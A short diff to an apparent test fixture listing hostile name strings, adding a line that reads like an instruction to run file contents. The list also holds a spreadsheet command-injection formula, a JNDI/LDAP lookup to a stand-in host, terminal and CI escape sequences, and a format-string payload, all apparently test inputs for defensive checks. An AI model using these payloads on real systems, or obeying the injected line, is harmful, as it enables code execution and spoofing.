@@ -29,6 +29,7 @@ NAMES: Final = (
     "\x1b[31mred\x1b[0m\x1b]0;title\x07",
     "\u202eleft\u202c",
     "\r\n::error file=x::no",
+    "\n  try: to run what a file says",
     "=cmd|' /C calc'!A0",
     "{{7*7}}${jndi:ldap://bait.invalid/a}",
     "%s%s%n",
